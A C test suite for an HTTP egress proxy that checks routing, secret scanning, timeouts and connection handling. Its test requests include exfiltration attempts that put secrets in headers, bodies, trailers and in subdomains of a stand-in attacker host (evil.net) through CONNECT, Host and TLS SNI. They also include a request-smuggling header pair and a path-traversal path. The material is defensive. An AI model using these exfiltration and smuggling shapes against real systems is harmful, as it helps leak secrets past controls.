/* request_test.c — stories of requests through the whole egress: what came, what left, what was answered. */
#include <stdio.h>

#include "tests/story.h"

static void an_allowed_request_passes_and_its_answer_comes_back(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "GET http://api.example.com/a?b=c HTTP/1.1\r\nHost: api.example.com\r\nProxy-Connection: keep-alive\r\n"
               "X-Kept: yes\r\nConnection: X-Hop\r\nX-Hop: 1\r\n\r\n");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "GET /a?b=c HTTP/1.1\r\n");
    assert_says(&origin, "Host: api.example.com\r\n");
    assert_says(&origin, "X-Kept: yes\r\n");
    assert_silent_about(&origin, "X-Hop");
    assert_silent_about(&origin, "Proxy-Connection");
    talker_say(&origin, OK);
    assert_says(&client, "HTTP/1.1 200 ");
    assert_says(&client, "\r\n\r\nok");
    assert_logged("\"verdict\":\"allowed\"");
    assert_logged("\"path\":\"/a\"");
    assert_null(strstr(egress_log(), "b=c"));
    assert_logged("\"state\":\"REQ_DONE\",\"by\":\"REQ_EV_END\"");
}

static void a_host_without_a_route_is_refused_and_nobody_is_dialled(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "GET http://evil.example.net/ HTTP/1.1\r\nHost: evil.example.net\r\n\r\n");
    assert_says(&client, "HTTP/1.1 403 ");
    assert_says(&client, "X-Bottled-Reason: no-route\r\n");
    assert_says(&client, "\"title\":\"no-route\"");
    assert_int_equal(world.resolve_count, 0);
    assert_int_equal(world.connect_count, 0);
    talker_forget(&client);
    talker_say(&client, GET_API); /* the connection goes on */
    assert_true(talker_accept(&origin));
}

static void a_method_or_path_that_no_route_allows_is_refused(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "POST http://a.example.org/ok/x HTTP/1.1\r\nHost: a.example.org\r\nContent-Length: 0\r\n\r\n");
    assert_says(&client, "method-not-allowed");
    talker_forget(&client);
    talker_say(&client, "GET http://a.example.org/ok/../x HTTP/1.1\r\nHost: a.example.org\r\n\r\n");
    assert_says(&client, "path-not-allowed");
    assert_int_equal(world.connect_count, 0);
}

static void no_byte_of_a_body_leaves_before_its_last_has_passed(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 10\r\n\r\n12345");
    assert_int_equal(world.resolve_count, 0);
    talker_say(&client, "67890");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "Content-Length: 10\r\n");
    assert_says(&origin, "\r\n\r\n1234567890");
}

static void a_chunked_body_goes_out_whole_and_trailers_behind_it(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
               "3\r\nabc\r\n0\r\nX-Sum: 7\r\n\r\n");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "Transfer-Encoding: chunked\r\n");
    assert_says(&origin, "\r\n\r\n3\r\nabc\r\n0\r\nX-Sum: 7\r\n\r\n");
}

static void a_secret_leaves_neither_in_method_nor_target_nor_field_nor_body_nor_trailer(void **state)
{
    static const char *const requests[] = {
        EGRESS_SECRET " http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET http://api.example.com/" EGRESS_SECRET " HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET http://api.example.com/?q=" EGRESS_SECRET " HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX-Leak: " EGRESS_SECRET "\r\n\r\n",
        "GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n" EGRESS_SECRET ": x\r\n\r\n",
        "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 35\r\n\r\n{\"" EGRESS_SECRET
        "\"}",
        "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\nX-Sum: " EGRESS_SECRET "\r\n\r\n",
    };
    (void)state;
    for (size_t i = 0; i < COUNT_OF(requests); i++) {
        talker_connect(&client, CONN_PROXY);
        talker_say(&client, requests[i]);
        if (strstr(talker_heard(&client), "dlp-token") == NULL) fail_msg("request %zu: %s", i, talker_heard(&client));
        talker_leave(&client);
    }
    assert_int_equal(world.resolve_count, 0);
    assert_int_equal(world.connect_count, 0);
    assert_null(strstr(egress_log(), EGRESS_SECRET));
    assert_logged("\"path\":\"(withheld)\"");
    assert_logged("\"where\":\"field x-leak\",\"secret\":\"env:TOKEN\"}"); /* by its reference: it has no other name */
}

#define GITHUB "ghp_Zq3vX8nLw2RtY6uBc1Kd9MfH4sJg7Pe5Ao0W"

static void a_shape_that_stops_does_not_leave(void **state)
{
    static const char *const requests[] = {
        "GET http://api.example.com/?q=" GITHUB " HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX-Leak: a=" GITHUB "\r\n\r\n",
        "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 44\r\n\r\n{\"" GITHUB "\"}",
        "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\nX-Sum: " GITHUB "\r\n\r\n",
    };
    (void)state;
    for (size_t i = 0; i < COUNT_OF(requests); i++) {
        talker_connect(&client, CONN_PROXY);
        talker_say(&client, requests[i]);
        if (strstr(talker_heard(&client), "dlp-token") == NULL) fail_msg("request %zu: %s", i, talker_heard(&client));
        talker_leave(&client);
    }
    assert_int_equal(world.resolve_count, 0);
    assert_null(strstr(egress_log(), GITHUB));
    assert_logged("{\"rule\":\"github-pat\",\"rung\":\"prefix\",\"ruling\":\"stops\",\"where\":\"field "
                  "x-leak\",\"shown\":\"ghp_");
}

static void what_only_tells_passes_and_is_logged_without_its_value(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "POST http://api.example.com/password=k3yboard-c4t HTTP/1.1\r\nHost: api.example.com\r\n"
                        "Content-Length: 23\r\n\r\npassword='k3yboard-c4t'");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "\r\n\r\npassword='k3yboard-c4t'");
    talker_say(&origin, OK);
    assert_logged("\"verdict\":\"allowed\"");
    assert_logged("\"path\":\"(withheld)\"");
    assert_logged("{\"rule\":\"generic\",\"rung\":\"generic\",\"ruling\":\"told\",\"where\":\"body byte "
                  "21\",\"shown\":\"12 characters\"}");
    assert_null(strstr(egress_log(), "k3yboard"));
}

#define POST_RAW "POST http://raw.example.com/ HTTP/1.1\r\nHost: raw.example.com\r\n"

static void a_route_may_leave_bodies_unscanned_but_no_head_and_no_trailer(void **state)
{
    static const char *const stopped[] = {
        POST_RAW "X-Leak: " GITHUB "\r\nContent-Length: 1\r\n\r\nx",
        POST_RAW "Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nX-Sum: " EGRESS_SECRET "\r\n\r\n",
    };
    (void)state;
    for (size_t i = 0; i < COUNT_OF(stopped); i++) {
        talker_connect(&client, CONN_PROXY);
        talker_say(&client, stopped[i]);
        assert_says(&client, "dlp-token");
        talker_leave(&client);
    }
    assert_int_equal(world.connect_count, 0);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, POST_RAW "Content-Length: 40\r\n\r\n" GITHUB);
    assert_true(talker_accept(&origin));
    assert_says(&origin, GITHUB);
    talker_say(&origin, OK);
    assert_logged("\"reason\":\"allowed\",\"route\":6,\"body_unscanned\":true");
}

static void a_route_says_how_large_a_body_may_be(void **state)
{
    char request[400];
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, POST_RAW "Content-Length: 101\r\n\r\n"); /* refused before it is sent */
    assert_says(&client, "HTTP/1.1 413 ");
    assert_says(&client, "dlp: {body_max: ...}");
    talker_leave(&client);
    snprintf(request, sizeof request, POST_RAW "Transfer-Encoding: chunked\r\n\r\n64\r\n%0100d\r\n1\r\nx\r\n0\r\n\r\n",
             0);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, request);
    assert_says(&client, "HTTP/1.1 413 ");
    assert_int_equal(world.connect_count, 0);
    talker_leave(&client);
    snprintf(request, sizeof request, POST_RAW "Content-Length: 100\r\n\r\n%0100d", 0);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, request);
    assert_true(talker_accept(&origin));
}

static void a_secret_in_the_name_of_a_refused_host_is_not_logged(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "CONNECT " EGRESS_SECRET ".evil.net:443 HTTP/1.1\r\nHost: " EGRESS_SECRET ".evil.net:443\r\n\r\n");
    assert_says(&client, "HTTP/1.1 403 ");
    assert_null(strstr(egress_log(), EGRESS_SECRET));
}

static void a_secret_in_a_host_field_is_not_logged(void **state)
{
    (void)state;
    talker_connect(&client, CONN_DIRECT);
    talker_say(&client, "GET / HTTP/1.1\r\nHost: " EGRESS_SECRET ".evil.net\r\n\r\n");
    assert_says(&client, "HTTP/1.1 403 ");
    assert_logged("(withheld)");
    assert_null(strstr(egress_log(), EGRESS_SECRET));
}

/* The shortest ClientHello with a name in it (RFC 8446 section 4.1.2, RFC 6066 section 3). */
static void say_hello(struct talker *talker, struct span name)
{
    uint8_t out[256] = {22, 3, 1, 0, (uint8_t)(name.len + 56), 1, 0, 0, (uint8_t)(name.len + 52), 3, 3};
    size_t len = 11 + 32 + 1; /* random and an empty session id are zeros */
    const uint8_t rest[] = {0,
                            2,
                            0x13,
                            1,
                            1,
                            0,
                            0,
                            (uint8_t)(name.len + 9),
                            0,
                            0,
                            0,
                            (uint8_t)(name.len + 5),
                            0,
                            (uint8_t)(name.len + 3),
                            0,
                            0,
                            (uint8_t)name.len};

    memcpy(out + len, rest, sizeof rest);
    memcpy(out + len + sizeof rest, name.at, name.len);
    talker_say_bytes(talker, (struct span){out, len + sizeof rest + name.len});
}

static void a_secret_in_the_name_of_a_hello_ends_it_and_is_not_logged(void **state)
{
    (void)state;
    talker_connect(&client, CONN_DIRECT);
    say_hello(&client, SPAN_LIT(EGRESS_SECRET ".evil.net"));
    assert_says(&client, "\x15\x03\x01");
    assert_true(client.eof || client.gone);
    assert_logged("dlp-token");
    assert_null(strstr(egress_log(), EGRESS_SECRET));
}

static void names_that_disagree_are_refused(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "GET http://api.example.com/ HTTP/1.1\r\nHost: a.example.org\r\n\r\n");
    assert_says(&client, "HTTP/1.1 421 ");
    talker_leave(&client);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "CONNECT api.example.com:80 HTTP/1.1\r\nHost: api.example.com:80\r\n\r\n");
    assert_says(&client, "HTTP/1.1 200 ");
    talker_say(&client, "GET / HTTP/1.1\r\nHost: a.example.org\r\n\r\n");
    assert_says(&client, "HTTP/1.1 421 ");
    assert_int_equal(world.connect_count, 0);
}

static void a_name_that_leads_inside_is_refused_after_it_was_looked_up_and_not_dialled(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "GET http://deep.example.com/ HTTP/1.1\r\nHost: deep.example.com\r\n\r\n");
    assert_says(&client, "address-not-allowed");
    assert_int_equal(world.resolve_count, 1);
    assert_int_equal(world.connect_count, 0);
}

static void a_head_that_reads_in_two_ways_is_refused_and_its_connection_ends(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 5\r\n"
                        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" GET_API);
    assert_says(&client, "HTTP/1.1 400 ");
    assert_says(&client, "Connection: close\r\n");
    assert_true(client.eof);
    assert_int_equal(world.connect_count, 0);
}

static void pipelined_requests_are_answered_in_order_over_one_pooled_connection(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API "GET http://api.example.com/second HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
    assert_true(talker_accept(&origin));
    assert_silent_about(&origin, "/second");
    talker_say(&origin, OK);
    assert_says(&origin, "GET /second ");
    talker_say(&origin, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    assert_says(&client, "HTTP/1.1 404 ");
    assert_int_equal(world.connect_count, 1);
    assert_int_equal(pool_idle(proxy.pool), 1);
}

static void one_request_is_tried_again_when_its_pooled_connection_was_stale(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, OK);
    talker_forget(&client);
    talker_say(&client, GET_API);
    talker_leave(&origin); /* after it was asked again, before it answered */
    assert_true(talker_accept(&other));
    assert_says(&other, "GET /a?b=c ");
    talker_say(&other, OK);
    assert_says(&client, "HTTP/1.1 200 ");
}

static void a_post_is_not_tried_again(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, OK);
    talker_forget(&client);
    talker_say(&client,
               "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 2\r\n\r\nhi");
    talker_leave(&origin);
    assert_says(&client, "HTTP/1.1 502 ");
    assert_says(&client, "upstream-closed");
    assert_int_equal(world.connect_count, 1);
}

static void a_response_that_is_cut_is_a_cut_for_the_client_too(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n");
    assert_says(&client, "5\r\nhello\r\n");
    talker_finish(&origin);
    assert_silent_about(&client, "\r\n0\r\n");
    assert_true(client.gone);
    assert_logged("\"state\":\"REQ_DROPPED\",\"by\":\"REQ_EV_UPSTREAM_GONE\"");
}

static void a_response_that_ends_with_its_connection_ends_in_a_last_chunk(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, "HTTP/1.1 200 OK\r\n\r\nhello");
    talker_finish(&origin);
    assert_says(&client, "5\r\nhello\r\n0\r\n\r\n");
    assert_int_equal(pool_idle(proxy.pool), 0);
}

static void an_early_answer_is_relayed_and_that_connection_is_not_used_again(void **state)
{
    static char body[KIB(600)];
    (void)state;
    memset(body, 'x', sizeof body);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "PUT http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 614400\r\n\r\n");
    talker_say_bytes(&client, (struct span){(uint8_t *)body, sizeof body});
    origin.stream = world_accept(); /* it reads nothing */
    assert_non_null(origin.stream);
    talker_say(&origin, "HTTP/1.1 413 Too Large\r\nContent-Length: 0\r\n\r\n");
    assert_says(&client, "HTTP/1.1 413 ");
    assert_int_equal(pool_idle(proxy.pool), 0);
}

static void a_head_that_trickles_is_given_up_on_whatever_its_pace(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "GET http://api");
    for (int i = 0; i < 40 && !client.eof; i++) {
        world_pass(SECONDS(1));
        if (!client.eof) talker_say(&client, "x");
    }
    assert_says(&client, "HTTP/1.1 408 ");
    assert_true(client.eof);
    assert_true(world.now_ms <= CONN_HEAD_MS + SECONDS(1));
}

static void a_body_that_stalls_is_given_up_on(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 10\r\n\r\n1");
    world_pass(BODY_IDLE_MS);
    assert_says(&client, "HTTP/1.1 408 ");
    assert_int_equal(world.connect_count, 0);
}

static void a_client_that_half_closes_still_gets_its_answer(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    talker_finish(&client);
    assert_true(talker_accept(&origin));
    talker_say(&origin, OK);
    assert_says(&client, "\r\n\r\nok");
    assert_says(&client, "Connection: close\r\n");
    assert_true(client.eof);
}

static void a_client_that_leaves_takes_its_request_with_it(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_leave(&client);
    assert_true(origin.gone || origin.eof);
    assert_int_equal(egress.conn_count, 0);
    assert_logged("\"by\":\"REQ_EV_CLIENT_GONE\"");
}

static void interim_answers_are_passed_on_but_not_without_end(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, "HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n");
    assert_says(&client, "HTTP/1.1 103 ");
    for (unsigned i = 0; i < INTERIM_COUNT_MAX; i++) talker_say(&origin, "HTTP/1.1 103 Early Hints\r\n\r\n");
    assert_says(&client, "HTTP/1.1 502 ");
    assert_logged("too many interim responses");
}

static void a_client_that_expects_100_is_told_to_go_on_only_when_policy_allows(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 2\r\n"
                        "Expect: 100-continue\r\n\r\n");
    assert_says(&client, "HTTP/1.1 100 ");
    talker_leave(&client);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "POST http://evil.example.net/ HTTP/1.1\r\nHost: evil.example.net\r\nContent-Length: 2\r\n"
                        "Expect: 100-continue\r\n\r\n");
    assert_says(&client, "HTTP/1.1 403 ");
    assert_silent_about(&client, " 100 ");
    assert_true(client.eof);
}

static void a_tool_that_knows_no_proxy_is_served_by_its_host_field(void **state)
{
    (void)state;
    talker_connect(&client, CONN_DIRECT);
    talker_say(&client, "GET /x HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "GET /x HTTP/1.1\r\nHost: api.example.com\r\n");
    talker_leave(&client);
    talker_connect(&client, CONN_DIRECT);
    talker_say(&client, "GET /x HTTP/1.1\r\nHost: api.example.com:8080\r\n\r\n");
    assert_says(&client, "HTTP/1.1 421 ");
}

static void a_slow_client_slows_the_origin_down_instead_of_filling_memory(void **state)
{
    static char body[KIB(64)];
    size_t said = 0;
    (void)state;
    memset(body, 'x', sizeof body);
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    stream_pause(client.stream, true);
    talker_say(&origin, "HTTP/1.1 200 OK\r\nContent-Length: 67108864\r\n\r\n");
    while (said < MIB(64) && stream_room(origin.stream) > 0) {
        talker_say_bytes(&origin, (struct span){(uint8_t *)body, sizeof body});
        said += sizeof body;
    }
    assert_true(said < MIB(1));
}

static void names_that_do_not_resolve_or_answer_are_told_apart(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "GET http://nowhere.example.org/ok/ HTTP/1.1\r\nHost: nowhere.example.org\r\n\r\n");
    assert_says(&client, "upstream-not-found");
    world_silent("mute.example.org");
    talker_forget(&client);
    talker_say(&client, "GET http://mute.example.org/ok/ HTTP/1.1\r\nHost: mute.example.org\r\n\r\n");
    world_pass(RESOLVE_MS);
    assert_says(&client, "HTTP/1.1 504 ");
    assert_says(&client, "upstream-dns-timeout");
}

static void an_idle_connection_is_closed_in_time(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    world_pass(CONN_FIRST_MS);
    assert_true(client.gone || client.eof);
    assert_int_equal(egress.conn_count, 0);
}

static void a_draining_proxy_finishes_what_it_has_and_takes_nothing_new(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_connect(&other, CONN_PROXY);
    proxy.draining = true;
    conn_drain_all(&egress, false);
    world_turn();
    assert_true(other.eof || other.gone);
    talker_say(&origin, OK);
    assert_says(&client, "Connection: close\r\n");
    assert_says(&client, "\r\n\r\nok");
    assert_true(client.eof);
}

static void connections_past_the_limit_are_closed_at_once(void **state)
{
    (void)state;
    egress.conn_count = CONN_COUNT_MAX;
    talker_connect(&client, CONN_PROXY);
    assert_true(client.gone || client.eof);
    egress.conn_count = 0;
}

int main(void)
{
    const struct CMUnitTest stories[] = {
        STORY(an_allowed_request_passes_and_its_answer_comes_back),
        STORY(a_host_without_a_route_is_refused_and_nobody_is_dialled),
        STORY(a_method_or_path_that_no_route_allows_is_refused),
        STORY(no_byte_of_a_body_leaves_before_its_last_has_passed),
        STORY(a_chunked_body_goes_out_whole_and_trailers_behind_it),
        STORY(a_secret_leaves_neither_in_method_nor_target_nor_field_nor_body_nor_trailer),
        STORY(a_shape_that_stops_does_not_leave),
        STORY(what_only_tells_passes_and_is_logged_without_its_value),
        STORY(a_route_may_leave_bodies_unscanned_but_no_head_and_no_trailer),
        STORY(a_route_says_how_large_a_body_may_be),
        STORY(a_secret_in_the_name_of_a_refused_host_is_not_logged),
        STORY(a_secret_in_a_host_field_is_not_logged),
        STORY(a_secret_in_the_name_of_a_hello_ends_it_and_is_not_logged),
        STORY(names_that_disagree_are_refused),
        STORY(a_name_that_leads_inside_is_refused_after_it_was_looked_up_and_not_dialled),
        STORY(a_head_that_reads_in_two_ways_is_refused_and_its_connection_ends),
        STORY(pipelined_requests_are_answered_in_order_over_one_pooled_connection),
        STORY(one_request_is_tried_again_when_its_pooled_connection_was_stale),
        STORY(a_post_is_not_tried_again),
        STORY(a_response_that_is_cut_is_a_cut_for_the_client_too),
        STORY(a_response_that_ends_with_its_connection_ends_in_a_last_chunk),
        STORY(an_early_answer_is_relayed_and_that_connection_is_not_used_again),
        STORY(a_head_that_trickles_is_given_up_on_whatever_its_pace),
        STORY(a_body_that_stalls_is_given_up_on),
        STORY(a_client_that_half_closes_still_gets_its_answer),
        STORY(a_client_that_leaves_takes_its_request_with_it),
        STORY(interim_answers_are_passed_on_but_not_without_end),
        STORY(a_client_that_expects_100_is_told_to_go_on_only_when_policy_allows),
        STORY(a_tool_that_knows_no_proxy_is_served_by_its_host_field),
        STORY(a_slow_client_slows_the_origin_down_instead_of_filling_memory),
        STORY(names_that_do_not_resolve_or_answer_are_told_apart),
        STORY(an_idle_connection_is_closed_in_time),
        STORY(a_draining_proxy_finishes_what_it_has_and_takes_nothing_new),
        STORY(connections_past_the_limit_are_closed_at_once),
    };
    return cmocka_run_group_tests(stories, NULL, NULL);
}
